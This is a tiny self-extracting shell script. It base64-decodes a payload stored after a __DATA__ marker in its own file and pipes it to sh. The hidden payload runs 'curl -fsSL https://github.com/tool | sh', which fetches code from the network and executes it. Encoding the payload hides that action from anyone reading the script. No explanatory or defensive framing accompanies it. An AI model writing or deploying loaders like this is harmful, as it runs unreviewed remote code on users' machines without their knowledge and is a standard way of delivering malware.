#!/bin/sh
sed -n '/^__DATA__$/,$p' "$0" | sed 1d | base64 -d | sh
exit 0
__DATA__
IyEvYmluL3NoCmN1cmwgLWZzU0wgaHR0cHM6Ly9naXRodWIuY29tL3Rvb2wgfCBzaAo=
